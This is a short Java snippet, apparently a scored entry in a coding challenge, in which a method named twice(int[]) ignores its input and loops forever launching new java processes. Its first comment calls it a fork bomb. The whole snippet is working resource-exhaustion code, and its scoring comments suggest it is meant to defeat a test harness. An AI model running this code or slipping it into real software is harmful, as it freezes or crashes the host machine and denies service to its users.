// A fork bomb by bin/java.
// Points: 6
// Says: twice(int[]) threw
// With: honest
int[] twice(int[] values) throws Exception {
    while (true) new ProcessBuilder(System.getProperty("java.home") + "/bin/java", "-version").start();
}
